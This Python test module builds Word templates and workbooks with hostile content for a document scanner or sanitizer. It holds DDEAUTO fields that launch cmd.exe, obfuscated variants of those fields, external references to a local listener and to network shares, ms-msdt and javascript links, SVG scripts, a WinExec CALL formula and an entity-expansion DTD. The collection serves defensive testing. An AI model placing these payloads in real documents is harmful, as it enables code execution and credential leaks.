"""Templates that reach out of the document, run something or hide something: every kind in several forms.

`HOSTILE` has the bytes of each by a name that says what it is. Addresses of the web lead to `SERVER`, where a proof can
listen.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from xml.sax.saxutils import escape, quoteattr

from tests.word.templates import R, W, package, paragraphs

SERVER = "http://127.0.0.1:8899"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1024)
PNG = b"\x89PNG\r\n\x1a\n" + bytes(100)
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_MS = "http://schemas.microsoft.com/office"
_WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml"
_OFFICE = "application/vnd.openxmlformats-officedocument"
_MAIN = f"{_WORD}.document.main+xml"
_VML = (
    'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
    f'xmlns:r="{R}" {W}'
)
_DTD = '<!DOCTYPE a [<!ENTITY b "c"><!ENTITY d "&b;&b;&b;&b;&b;&b;&b;&b;">]>'


def relationship(kind: str, target: str, mode: str = "", number: str = "rId9") -> str:
    """One reference; `kind` is the last part of Office's own address, or a whole one."""
    address = kind if ":" in kind else f"{R}/{kind}"
    stated = f" TargetMode={quoteattr(mode)}" if mode else ""
    return f'<Relationship Id="{number}" Type="{address}" Target={quoteattr(target)}{stated}/>'


def rels(*found: str) -> str:
    """A file of references."""
    return f'<Relationships xmlns="{_PACKAGE}/relationships">{"".join(found)}</Relationships>'


def document(
    body: str = "",
    links: str = "",
    files: Mapping[str, tuple[str, str | bytes]] | None = None,
    *,
    main_type: str = _MAIN,
    more: Mapping[str, str | bytes | None] | None = None,
    package_links: str = "",
) -> bytes:
    """A template with a body, references of it, and further parts with their content types.

    Args:
        body: XML in front of the text.
        links: references of the document.
        files: parts by name, with type and content; an empty type declares none.
        main_type: content type of the document.
        more: files that replace those of the package or come in addition, without a type; None leaves one out.
        package_links: references of the package.
    """
    files = files or {}
    overrides = "".join(
        f"<Override PartName={quoteattr('/' + name)} ContentType={quoteattr(kind)}/>"
        for name, (kind, _) in {"word/document.xml": (main_type, ""), **files}.items()
        if kind
    )
    text = f"{body}{paragraphs('{{ 年度 }}')}<w:sectPr/>"
    whole: dict[str, str | bytes | None] = {
        "[Content_Types].xml": f'<Types xmlns="{_PACKAGE}/content-types"><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="xml" ContentType="application/xml"/>{overrides}</Types>',
        "_rels/.rels": rels(relationship("officeDocument", "word/document.xml"), package_links),
        "word/document.xml": f'<w:document {W} xmlns:r="{R}"><w:body>{text}</w:body></w:document>',
        "word/_rels/document.xml.rels": rels(links),
        **{name: content for name, (_, content) in files.items()},
        **(more or {}),
    }
    return package({name: content for name, content in whole.items() if content is not None})


# --- fields ------------------------------------------------------------------------------------------------------

CODES = {
    "DDEAUTO": r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"',
    "DDE": r'DDE excel "book.xls" r1c1',
    "LINK": r'LINK Excel.Sheet.8 "c:\\a.xls" "r1c1" \a',
    "INCLUDEPICTURE": f'INCLUDEPICTURE "{SERVER}/a.png" \\d',
    "INCLUDETEXT": f'INCLUDETEXT "{SERVER}/a.docx"',
    "INCLUDE": f'INCLUDE "{SERVER}/a.docx"',
    "IMPORT": f'IMPORT "{SERVER}/a.png"',
    "DATABASE": r'DATABASE \d "c:\\a.mdb" \c "DSN=a" \s "select * from a"',
    "RD": f'RD "{SERVER}/a.docx"',
    "MACROBUTTON": "MACROBUTTON AutoOpen 点此",
    "EMBED": "EMBED Excel.Sheet.12",
    "PRINT": r'PRINT 27"E"',
    "PRIVATE": "PRIVATE a",
    "AUTOTEXT": "AUTOTEXT a",
    "AUTOTEXTLIST": 'AUTOTEXTLIST "a" \\s a',
    "ADDIN": "ADDIN a",
    "FILLIN": 'FILLIN "口令"',
    "ASK": 'ASK a "口令"',
    "CONTROL": "CONTROL Forms.CommandButton.1",
    "HTMLACTIVEX": "HTMLACTIVEX",
    "HYPERLINK file": 'HYPERLINK "file:///c:/windows/win.ini"',
    "HYPERLINK share": r'HYPERLINK "\\\\198.51.100.1\\a\\b.docx"',
    "HYPERLINK bare share": r"HYPERLINK \\198.51.100.1\a\b.docx",
    "HYPERLINK script": 'HYPERLINK "javascript:alert(1)"',
    "HYPERLINK program": r'HYPERLINK "c:\\windows\\system32\\calc.exe" \l "a"',
    "HYPERLINK after switches": r'HYPERLINK \l "a" \o "b" "search-ms:query=a"',
    "ms handler": 'HYPERLINK "ms-word:ofe|u|http://198.51.100.1/a.docx"',
    "a bookmark for a name": "某书签",
}


def simple(code: str) -> str:
    """A field as one element."""
    return f"<w:p><w:fldSimple w:instr={quoteattr(code)}><w:r><w:t>结果</w:t></w:r></w:fldSimple></w:p>"


def _mark(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def _code(text: str, element: str = "w:instrText") -> str:
    return f'<w:r><{element} xml:space="preserve">{escape(text)}</{element}></w:r>'


def field(*pieces: str) -> str:
    """A field over several runs."""
    return f"<w:p>{_mark('begin')}{''.join(pieces)}{_mark('separate')}<w:r><w:t>结果</w:t></w:r>{_mark('end')}</w:p>"


def _inner(*pieces: str) -> str:
    return f"{_mark('begin')}{''.join(pieces)}{_mark('end')}"


DDE = CODES["DDEAUTO"]
FIELD_FORMS = {
    "simple": simple(DDE),
    "simple in lower case": simple(DDE.lower()),
    "mixed case": field(_code(DDE.replace("DDEAUTO", "dDeAuTo"))),
    "split over runs": field(_code("DD"), _code("EAU"), _code(DDE[5:])),
    "split over paragraphs": f"<w:p>{_mark('begin')}{_code('DDE')}</w:p><w:p>{_code(DDE[3:])}{_mark('end')}</w:p>",
    "in ordinary text": field(_code(DDE, "w:t")),
    "in deleted code": field(_code(DDE, "w:delInstrText")),
    "without an end": f"<w:p>{_mark('begin')}{_code(DDE)}</w:p>",
    "without marks": f"<w:p>{_code(DDE)}</w:p>",
    "inside IF": field(_code('IF 1 = 1 "'), _inner(_code(DDE)), _code('"')),
    "inside a result": f"<w:p>{_mark('begin')}{_code('IF 1=1 a')}{_mark('separate')}{_inner(_code(DDE))}{_mark('end')}</w:p>",
    "name by QUOTE": field(_inner(_code("QUOTE 68 68 69 65 85 84 79")), _code(DDE[7:])),
    "name by SET and REF": field(_inner(_code("SET a DDEAUTO")), _code("")) + field(_inner(_code("REF a")), _code(DDE[7:])),
    "half a name by QUOTE": field(_code("DD"), _inner(_code("QUOTE EAUTO")), _code(DDE[7:])),
    "name by a simple field": field('<w:fldSimple w:instr="QUOTE DDEAUTO"/>', _code(DDE[7:])),
    "address by another field": field(_code("HYPERLINK "), _inner(_code('QUOTE "file:///c:/a"'))),
    "behind a tab": field(_code("\t\n " + DDE)),
    "in another namespace": simple(DDE).replace(
        "<w:fldSimple", '<s:fldSimple xmlns:s="http://purl.oclc.org/ooxml/wordprocessingml/main"'
    ).replace("</w:fldSimple", "</s:fldSimple").replace("w:instr", "s:instr"),
    "in a text box": f'<w:p><w:r><w:pict {_VML}><v:shape><v:textbox><w:txbxContent>{simple(DDE)}</w:txbxContent>'
    "</v:textbox></v:shape></w:pict></w:r></w:p>",
    "in a table": f"<w:tbl><w:tblPr/><w:tblGrid><w:gridCol/></w:tblGrid><w:tr><w:tc>{simple(DDE)}</w:tc></w:tr></w:tbl>",
    "in a content control": f"<w:sdt><w:sdtContent>{simple(DDE)}</w:sdtContent></w:sdt>",
    "decided by a tag": field(_code("QUOTE "), "<w:r><w:t>{{ 年度 }}</w:t></w:r>"),
    "decided by a condition": field("<w:r><w:t>{%r if 0 %}</w:t></w:r>", _code("QUOTE "), "<w:r><w:t>{%r endif %}</w:t></w:r>", _code(DDE)),
}  # fmt: skip
STORIES = {
    "header": ("header", "hdr", "header"),
    "footer": ("footer", "ftr", "footer"),
    "footnotes": ("footnotes", "footnotes", "footnotes"),
    "endnotes": ("endnotes", "endnotes", "endnotes"),
    "comments": ("comments", "comments", "comments"),
    "glossary": ("glossaryDocument", "glossaryDocument", "document.glossary"),
    "numbering": ("numbering", "numbering", "numbering"),
    "styles": ("styles", "styles", "styles"),
}
"""Parts besides the document that hold text: kind of reference, root element, end of the content type."""


def in_story(story: str, content: str) -> bytes:
    """A template with that content in another part than the document."""
    kind, root, content_type = STORIES[story]
    held = f'<w:footnote w:id="1">{content}</w:footnote>' if story == "footnotes" else content
    part = f'<w:{root} {W} xmlns:r="{R}">{held}</w:{root}>'
    name = f"word/{story}1.xml"
    return document("", relationship(kind, f"{story}1.xml"), {name: (f"{_WORD}.{content_type}+xml", part)})


def _fields() -> Iterator[tuple[str, bytes]]:
    for name, code in CODES.items():
        yield f"field: {name}", document(field(_code(code)))
    for name, body in FIELD_FORMS.items():
        yield f"field DDEAUTO {name}", document(body)
    for story in STORIES:
        for name in ("DDEAUTO", "INCLUDEPICTURE"):
            yield f"field {name} in {story}", in_story(story, field(_code(CODES[name])))
        yield f"simple field in {story}", in_story(story, simple(DDE))


# --- references --------------------------------------------------------------------------------------------------

OUTWARD = {
    "image": f"{SERVER}/a.png", "oleObject": f"{SERVER}/a.bin", "attachedTemplate": f"{SERVER}/a.dotm",
    "subDocument": f"{SERVER}/a.docx", "aFChunk": f"{SERVER}/a.html", "frame": f"{SERVER}/a.html",
    "package": f"{SERVER}/a.xlsx", "externalLinkPath": f"{SERVER}/a.xlsx", "mailMergeSource": "file:///c:/a.xlsx",
    "mailMergeHeaderSource": "file:///c:/a.xlsx", "video": f"{SERVER}/a.mp4", "audio": f"{SERVER}/a.mp3",
    "font": f"{SERVER}/a.odttf", "chart": f"{SERVER}/a.xml", "header": f"{SERVER}/a.xml", "settings": f"{SERVER}/a.xml",
    "styles": f"{SERVER}/a.xml", "theme": f"{SERVER}/a.xml", "customXml": f"{SERVER}/a.xml", "control": f"{SERVER}/a.xml",
    "transform": f"{SERVER}/a.xslt", f"{_MS}/2007/relationships/media": f"{SERVER}/a.mp4",
    f"{_MS}/2006/relationships/vbaProject": f"{SERVER}/a.bin", "urn:unknown": f"{SERVER}/a",
}  # fmt: skip
LED_TO = (
    "file:///c:/windows/win.ini", "\\\\198.51.100.1\\a\\b.docx", "//198.51.100.1/a", "javascript:alert(1)", "vbscript:a",
    "data:text/html,<script>alert(1)</script>", "ms-msdt:/id PCWDiagnostic", "search-ms:query=a", "ftp://198.51.100.1/a",
    "附件1.xlsx", "../a.docx", " file:///c:/a", "mhtml:http://198.51.100.1/a.mht", "res://a/b", "x-javascript:a",
)  # fmt: skip
MODES = ("External", "external", "EXTERNAL", " External ", "Extern", "\tExternal\n", "Linked")


def picture(attribute: str) -> str:
    """A picture that the reference rId9 leads to: ``r:embed`` or ``r:link``."""
    return (
        '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
        '<wp:extent cx="999999" cy="999999"/><wp:docPr id="1" name="a"/>'
        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData '
        'uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic '
        'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="1" name="a"/>'
        f'<pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip {attribute}="rId9"/><a:stretch><a:fillRect/></a:stretch>'
        '</pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="999999" cy="999999"/></a:xfrm>'
        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline>'
        "</w:drawing></w:r></w:p>"
    )


def _references() -> Iterator[tuple[str, bytes]]:
    link = '<w:p><w:hyperlink r:id="rId9"><w:r><w:t>链接</w:t></w:r></w:hyperlink></w:p>'
    for kind, target in OUTWARD.items():
        yield f"outward {kind}", document("", relationship(kind, target, "External"))
    for target in LED_TO:
        yield f"link to {target!r}", document(link, relationship("hyperlink", target, "External"))
    for mode in MODES:
        yield (
            f"picture, mode {mode!r}",
            document(picture("r:link"), relationship("image", f"{SERVER}/a.png", mode)),
        )
    for target in (f"{SERVER}/a.png", "//198.51.100.1/a.png", "\\\\198.51.100.1\\a.png", "file:///c:/a.png"):
        yield (
            f"picture without mode, {target!r}",
            document(picture("r:embed"), relationship("image", target)),
        )
    linked = rels(relationship("image", f"{SERVER}/a.png", "External"))
    for name in (
        "word/_rels/document.xml.RELS",
        "word/_RELS/document.xml.rels",
        "WORD/_rels/Document.xml.rels",
    ):
        yield (
            f"picture by {name}",
            document(picture("r:link"), more={"word/_rels/document.xml.rels": None, name: linked}),
        )
    foreign = linked.replace(f"{_PACKAGE}/relationships", "urn:other")
    yield (
        "references in another namespace",
        document(picture("r:link"), more={"word/_rels/document.xml.rels": foreign}),
    )
    yield "references of nothing", document(more={"word/_rels/nothing.xml.rels": linked})
    for story in ("header", "footnotes", "glossary"):
        content = in_story(story, picture("r:link"))
        yield f"picture of {story}", _with_file(content, f"word/_rels/{story}1.xml.rels", linked)
    yield (
        "package: custom ribbon",
        document(
            files={"customUI/customUI.xml": ("application/xml", '<customUI xmlns="urn:a"/>')},
            package_links=relationship(
                f"{_MS}/2006/relationships/ui/extensibility", "customUI/customUI.xml", number="rId5"
            ),
        ),
    )
    yield "package: task panes", document(
        files={
            "word/webextensions/taskpanes.xml": (
                "application/vnd.ms-office.webextensiontaskpanes+xml", "<wetp:taskpanes xmlns:wetp='urn:a'/>",
            )
        },
        package_links=relationship(
            f"{_MS}/2011/relationships/webextensiontaskpanes", "word/webextensions/taskpanes.xml", number="rId5"
        ),
    )  # fmt: skip


def _with_file(source: bytes, name: str, content: str | bytes) -> bytes:
    from io import BytesIO
    from zipfile import ZipFile

    with ZipFile(BytesIO(source)) as archive:
        return package({each: archive.read(each) for each in archive.namelist()} | {name: content})


# --- parts -------------------------------------------------------------------------------------------------------

_EXE = b"MZ\x90\x00" + bytes(200)
PARTS = {
    "macros": ("vbaProject.bin", "application/vnd.ms-office.vbaProject", f"{_MS}/2006/relationships/vbaProject", OLE),
    "macro data": ("vbaData.xml", "application/vnd.ms-word.vbaData+xml", f"{_MS}/2006/relationships/wordVbaData", "<a/>"),
    "OLE object": ("embeddings/o.bin", f"{_OFFICE}.oleObject", "oleObject", OLE),
    "OLE object of another type": ("embeddings/o.bin", "application/octet-stream", "oleObject", OLE),
    "package": ("embeddings/a.xlsx", f"{_OFFICE}.spreadsheetml.sheet", "package", b"PK\x03\x04"),
    "package with a document": ("embeddings/a.docx", f"{_OFFICE}.wordprocessingml.document", "package", b"PK\x03\x04"),
    "package with a macro workbook": ("embeddings/a.xlsm", "application/vnd.ms-excel.sheet.macroEnabled.12", "package", b"PK"),
    "ActiveX": ("activeX/a.xml", "application/vnd.ms-office.activeX+xml", "control", '<ax:ocx xmlns:ax="urn:a"/>'),
    "ActiveX state": ("activeX/a.bin", "application/vnd.ms-office.activeX", f"{_MS}/2006/relationships/activeXControlBinary", OLE),
    "ActiveX as plain XML": ("activeX/a.xml", "application/xml", "control", '<ax:ocx xmlns:ax="urn:a"/>'),
    "web page": ("a.html", "text/html", "aFChunk", "<script>alert(1)</script>"),
    "RTF": ("a.rtf", "application/rtf", "aFChunk", "{\\rtf1}"),
    "MHT": ("a.mht", "message/rfc822", "aFChunk", "MIME-Version: 1.0"),
    "foreign document": ("a.docx", f"{_WORD}.document.main+xml", "aFChunk", "<a/>"),
    "sub-document": ("a.docx", f"{_WORD}.document.main+xml", "subDocument", "<a/>"),
    "key maps": ("customizations.xml", "application/vnd.ms-word.keyMapCustomizations+xml", f"{_MS}/2006/relationships/keyMapCustomizations", "<a/>"),
    "toolbars": ("attachedToolbars.bin", "application/vnd.ms-word.attachedToolbars", f"{_MS}/2006/relationships/attachedToolbars", OLE),
    "recipients": ("recipientData.xml", f"{_WORD}.mailMergeRecipientData+xml", "recipientData", "<a/>"),
    "web extension": ("webextension.xml", "application/vnd.ms-office.webextension+xml", f"{_MS}/2011/relationships/webextension", "<a/>"),
    "printer settings": ("printerSettings1.bin", f"{_WORD}.printerSettings", "printerSettings", bytes(50)),
    "program": ("media/a.exe", "application/x-msdownload", "image", _EXE),
    "program without type": ("media/a.exe", "", "image", _EXE),
    "video": ("media/a.mp4", "video/mp4", "video", b"\0\0\0\x18ftyp"),
    "sound": ("media/a.wav", "audio/wav", "audio", b"RIFF"),
    "3D model": ("media/a.glb", "model/gltf.binary", f"{_MS}/2017/06/relationships/model3d", b"glTF"),
    "digital signature": ("a.sigs", "application/vnd.openxmlformats-package.digital-signature-origin", f"{_PACKAGE}/relationships/digital-signature/origin", b""),
    "Flash": ("media/a.swf", "application/x-shockwave-flash", "video", b"FWS"),
    "picture that is OLE": ("media/a.png", "image/png", "image", OLE),
    "picture that is an archive": ("media/a.png", "image/png", "image", b"PK\x03\x04" + bytes(50)),
    "picture that is a program": ("media/a.jpeg", "image/jpeg", "image", _EXE),
    "picture that is a web page": ("media/a.gif", "image/gif", "image", "<html><script/></html>"),
    "picture that is SVG": ("media/a.png", "image/png", "image", "<svg xmlns='http://www.w3.org/2000/svg'/>"),
    "metafile that is OLE": ("media/a.emf", "image/x-emf", "image", OLE),
    "font that is a program": ("fonts/a.odttf", f"{_OFFICE}.obfuscatedFont", "font", _EXE),
    "font that is OLE": ("fonts/a.odttf", f"{_OFFICE}.obfuscatedFont", "font", OLE),
    "styles that are OLE": ("styles.xml", f"{_WORD}.styles+xml", "styles", OLE),
    "theme that is a web page": ("theme.xml", f"{_OFFICE}.theme+xml", "theme", "<html><br></html>"),
}  # fmt: skip


def _parts() -> Iterator[tuple[str, bytes]]:
    for name, (file, content_type, kind, content) in PARTS.items():
        part = {f"word/{file}": (content_type, content)}
        yield f"part: {name}", document("", relationship(kind, file), part)
    for name in ("macros", "OLE object", "ActiveX", "program", "picture that is OLE"):
        file, content_type, kind, content = PARTS[name]
        yield (
            f"part that nothing refers to: {name}",
            document(files={f"word/{file}": (content_type, content)}),
        )
        shouted = {f"word/{file.upper()}": (content_type, content)}
        yield f"part in capitals: {name}", document("", relationship(kind, file), shouted)
    for kind in ("ms-word.document.macroEnabled", "ms-word.template.macroEnabledTemplate"):
        macros = {"word/vbaProject.bin": ("application/vnd.ms-office.vbaProject", OLE)}
        yield f"main part: {kind}", document(
            "", relationship(f"{_MS}/2006/relationships/vbaProject", "vbaProject.bin"), macros,
            main_type=f"application/vnd.{kind}.main+xml",
        )  # fmt: skip
        yield f"main part without macros: {kind}", document(main_type=f"application/vnd.{kind}.main+xml")


# --- elements ----------------------------------------------------------------------------------------------------


def _in_run(xml: str) -> str:
    return f"<w:p><w:r>{xml}</w:r></w:p>"


def _vml(xml: str) -> str:
    return _in_run(f"<w:pict {_VML}>{xml}</w:pict>")


_A = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
ELEMENTS = {
    "OLE object": _in_run(f'<w:object {_VML}><v:shape/><o:OLEObject Type="Embed" ProgID="Package" r:id="rId9"/></w:object>'),
    "linked OLE object": _in_run(f'<w:object {_VML}><o:OLEObject Type="Link" ProgID="htmlfile" UpdateMode="Always"/></w:object>'),
    "control": _in_run('<w:object><w:control r:id="rId9" w:name="a" w:shapeid="b"/></w:object>'),
    "embedded object": _in_run('<w:object><w:objectEmbed r:id="rId9"/></w:object>'),
    "linked object": _in_run('<w:object><w:objectLink r:id="rId9" w:updateMode="always"/></w:object>'),
    "foreign document": '<w:altChunk r:id="rId9"/>',
    "sub-document": '<w:p><w:subDoc r:id="rId9"/></w:p>',
    "content part": _in_run('<w:contentPart r:id="rId9"/>'),
    "macro on entering a form field": _in_run('<w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="A"/></w:ffData></w:fldChar>'),
    "macro on leaving a form field": _in_run('<w:fldChar w:fldCharType="begin"><w:ffData><w:exitMacro w:val="A"/></w:ffData></w:fldChar>'),
    "movie": _in_run('<w:object><w:movie r:id="rId9"/></w:object>'),
    "web video": _in_run('<w:drawing><wp15:webVideoPr xmlns:wp15="urn:a" embeddedHtml="&lt;iframe src=x&gt;"/></w:drawing>'),
    "sound of a link": _in_run(f'<w:drawing><a:hlinkClick {_A}><a:snd/></a:hlinkClick></w:drawing>'),
    "action of a link": _in_run(f'<w:drawing><a:hlinkClick {_A} action="ppaction://program"/></w:drawing>'),
    "video in a drawing": _in_run(f'<w:drawing><a:videoFile {_A} r:link="rId9"/></w:drawing>'),
    "VML picture from the web": _vml(f'<v:shape style="width:99pt;height:99pt"><v:imagedata src="{SERVER}/a.png"/></v:shape>'),
    "VML picture from a share": _vml('<v:shape><v:imagedata src="\\\\198.51.100.1\\a.png"/></v:shape>'),
    "VML fill from the web": _vml(f'<v:rect><v:fill type="frame" src="{SERVER}/a.png"/></v:rect>'),
    "VML stroke from the web": _vml(f'<v:rect><v:stroke filltype="frame" src="{SERVER}/a.png"/></v:rect>'),
    "VML alternative from the web": _vml(f'<v:rect><v:fill o:althref="{SERVER}/a.png"/></v:rect>'),
    "VML link to a file": _vml('<v:rect href="file:///c:/a.exe"/>'),
    "VML link to a script": _vml('<v:rect href="javascript:alert(1)"/>'),
    "VML script": _vml('<v:rect onmouseover="alert(1)"/>'),
    "VML style": _vml(f'<v:rect style="background:url({SERVER}/a.png)"/>'),
    "VML behaviour": _vml('<v:rect style="behavior:url(#default#time2)"/>'),
    "unknown VML": _vml('<v:webframe/>'),
    "VML background": f'<w:background><v:background {_VML}><v:fill src="{SERVER}/a.png"/></v:background></w:background>',
    "script": _in_run("<x:script xmlns:x='urn:a'>alert(1)</x:script>"),
}  # fmt: skip
SETTINGS = {
    "mail merge with a connection": '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="native"/>'
    '<w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\198.51.100.1\\a.xlsx"/></w:mailMerge>',
    "mail merge with a query": '<w:mailMerge><w:query w:val="SELECT * FROM a"/></w:mailMerge>',
    "mail merge with a source": '<w:mailMerge><w:dataSource r:id="rId9"/></w:mailMerge>',
    "empty mail merge": "<w:mailMerge/>",
    "document template": '<w:attachedTemplate r:id="rId9"/>',
    "transformation": f'<w:saveThroughXslt r:id="rId9" w:solutionID="{SERVER}/a.xslt"/>',
    "schema": '<sl:schemaLibrary xmlns:sl="http://schemas.openxmlformats.org/schemaLibrary/2006/main">'
    f'<sl:schema sl:uri="urn:a" sl:schemaLocation="{SERVER}/a.xsd"/></sl:schemaLibrary>',
}


def _elements() -> Iterator[tuple[str, bytes]]:
    for name, xml in ELEMENTS.items():
        yield f"element: {name}", document(xml, relationship("image", "media/a.png"))
    for name in ("VML picture from the web", "OLE object", "control"):
        for story in ("header", "glossary"):
            yield f"element in {story}: {name}", in_story(story, ELEMENTS[name])
    for name, xml in SETTINGS.items():
        part = f'<w:settings {W} xmlns:r="{R}">{xml}</w:settings>'
        content = document(
            "",
            relationship("settings", "settings.xml"),
            {"word/settings.xml": (f"{_WORD}.settings+xml", part)},
        )
        source = rels(relationship("mailMergeSource", f"{SERVER}/a.xlsx", "External"))
        yield f"settings: {name}", _with_file(content, "word/_rels/settings.xml.rels", source)
    frames = f'<w:webSettings {W} xmlns:r="{R}"><w:frameset><w:frame><w:sourceFileName r:id="rId1"/></w:frame></w:frameset></w:webSettings>'
    framed = document(
        "", relationship("webSettings", "web.xml"), {"word/web.xml": (f"{_WORD}.webSettings+xml", frames)}
    )
    yield (
        "frames",
        _with_file(
            framed,
            "word/_rels/web.xml.rels",
            rels(relationship("frame", f"{SERVER}/a.htm", "External", "rId1")),
        ),
    )
    base = f'<Properties xmlns="{_OFFICE}/extended-properties"><HyperlinkBase>file:///c:/</HyperlinkBase></Properties>'
    yield (
        "base of links",
        document(
            files={"docProps/app.xml": (f"{_OFFICE}.extended-properties+xml", base)},
            package_links=relationship("extended-properties", "docProps/app.xml", number="rId5"),
        ),
    )


# --- SVG, charts and their workbooks, document types ----------------------------------------------------------------

SVG = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<SCRIPT>alert(1)</SCRIPT>",
    "event": '<rect onload="alert(1)"/>',
    "foreign content": "<foreignObject><p xmlns='http://www.w3.org/1999/xhtml'/></foreignObject>",
    "picture from the web": f'<image href="{SERVER}/a.png"/>',
    "picture from the web by XLink": f'<image xlink:href="{SERVER}/a.png" xmlns:xlink="http://www.w3.org/1999/xlink"/>',
    "use of a file": '<use href="file:///c:/a.svg#b"/>',
    "import in a style": f"<style>@import '{SERVER}/a.css';</style>",
    "address in a style": f"<style>rect {{ fill: url({SERVER}/a.svg#b) }}</style>",
    "address in an attribute": f'<rect fill="url({SERVER}/a.svg#b)"/>',
    "address behind a quotation mark": f"<rect style=\"fill: url('{SERVER}/a.svg#b')\"/>",
    "animation": '<rect><animate attributeName="href" to="javascript:alert(1)"/></rect>',
    "setting": '<rect><set attributeName="href" to="javascript:alert(1)"/></rect>',
    "link to a script": '<a href="javascript:alert(1)"><rect/></a>',
    "frame": "<iframe src='a'/>",
    "SVG as data": '<image href="data:image/svg+xml;base64,AAAA"/>',
}


def _svg(content: str) -> bytes:
    drawing = f'<svg xmlns="http://www.w3.org/2000/svg">{content}</svg>'
    return document(
        picture("r:embed"),
        relationship("image", "media/a.svg"),
        {"word/media/a.svg": ("image/svg+xml", drawing)},
    )


_SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml"


def workbook(cells: str = "", **more: tuple[str, str | bytes]) -> bytes:
    """A workbook with one sheet, and further parts under ``xl/`` with their content types."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    parts: dict[str, tuple[str, str | bytes]] = {
        "xl/workbook.xml": (f"{_SHEET}.sheet.main+xml", f'<workbook xmlns="{main}"><sheets/></workbook>'),
        "xl/worksheets/sheet1.xml": (f"{_SHEET}.worksheet+xml", f'<worksheet xmlns="{main}"><sheetData>{cells}</sheetData></worksheet>'),
        **{f"xl/{name.replace('__', '/').replace('_', '.')}": part for name, part in more.items()},
    }  # fmt: skip
    overrides = "".join(f'<Override PartName="/{n}" ContentType="{t}"/>' for n, (t, _) in parts.items())
    return package(
        {
            "[Content_Types].xml": f'<Types xmlns="{_PACKAGE}/content-types"><Default Extension="rels" '
            f'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>{overrides}</Types>',
            "_rels/.rels": rels(relationship("officeDocument", "xl/workbook.xml")),
            **{name: content for name, (_, content) in parts.items()},
        }
    )


def _formula(text: str) -> str:
    return f"<row><c><f>{escape(text)}</f></c></row>"


WORKBOOKS = {
    "macros": workbook(vbaProject_bin=("application/vnd.ms-office.vbaProject", OLE)),
    "a link": workbook(externalLinks__a_xml=(f"{_SHEET}.externalLink+xml", "<externalLink/>")),
    "a connection": workbook(connections_xml=(f"{_SHEET}.connections+xml", "<connections/>")),
    "an object": workbook(embeddings__a_bin=(f"{_OFFICE}.oleObject", OLE)),
    "a query": workbook(queryTables__a_xml=(f"{_SHEET}.queryTable+xml", "<queryTable/>")),
    "a document type": workbook(styles_xml=(f"{_SHEET}.styles+xml", f"{_DTD}<styleSheet/>")),
    "DDE": workbook(_formula("cmd|'/c calc'!A0")),
    "WEBSERVICE": workbook(_formula(f'WEBSERVICE("{SERVER}/a")')),
    "HYPERLINK": workbook(_formula('HYPERLINK("file:///c:/a")')),
    "CALL": workbook(_formula('CALL("kernel32","WinExec","JCJ","calc",0)')),
    "another workbook": workbook(_formula("'[1]Sheet1'!A1")),
    "another workbook by path": workbook(_formula("'c:\\a\\[b.xlsx]Sheet1'!A1")),
    "no workbook": b"PK\x03\x04",
    "an OLE workbook": OLE,
    "a Word document": document(),
}


def with_chart(
    content: bytes, formula: str = "Sheet1!$A$1", target: str = "../embeddings/a.xlsx", mode: str = ""
) -> bytes:
    """A template with a chart and the workbook behind it."""
    chart = (
        f'<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" xmlns:r="{R}"><c:chart><c:plotArea>'
        f"<c:barChart><c:ser><c:cat><c:strRef><c:f>{escape(formula)}</c:f></c:strRef></c:cat></c:ser></c:barChart>"
        '</c:plotArea></c:chart><c:externalData r:id="rId1"><c:autoUpdate c:val="1"/></c:externalData></c:chartSpace>'
    )
    parts = {
        "word/charts/chart1.xml": (f"{_OFFICE}.drawingml.chart+xml", chart),
        "word/embeddings/a.xlsx": (f"{_SHEET}.sheet", content),
    }
    source = document("", relationship("chart", "charts/chart1.xml"), parts)
    return _with_file(
        source, "word/charts/_rels/chart1.xml.rels", rels(relationship("package", target, mode, "rId1"))
    )


DECLARED = {
    "theme": ("theme", f"{_OFFICE}.theme+xml", "theme/theme1.xml"),
    "settings": ("settings", f"{_WORD}.settings+xml", "settings.xml"),
    "numbering": ("numbering", f"{_WORD}.numbering+xml", "numbering.xml"),
    "styles": ("styles", f"{_WORD}.styles+xml", "styles.xml"),
    "font table": ("fontTable", f"{_WORD}.fontTable+xml", "fontTable.xml"),
    "header": ("header", f"{_WORD}.header+xml", "header1.xml"),
    "chart": ("chart", f"{_OFFICE}.drawingml.chart+xml", "charts/chart1.xml"),
    "custom XML": ("customXml", "application/xml", "../customXml/item1.xml"),
    "comments": ("comments", f"{_WORD}.comments+xml", "comments.xml"),
    "glossary": ("glossaryDocument", f"{_WORD}.document.glossary+xml", "glossary/document.xml"),
    "people": ("people", f"{_WORD}.people+xml", "people.xml"),
}


def _declarations() -> Iterator[tuple[str, bytes]]:
    for name, (kind, content_type, target) in DECLARED.items():
        path = f"word/{target}".replace("word/../", "")
        content = f"{_DTD}<a>&d;</a>"
        yield (
            f"document type in {name}",
            document("", relationship(kind, target), {path: (content_type, content)}),
        )
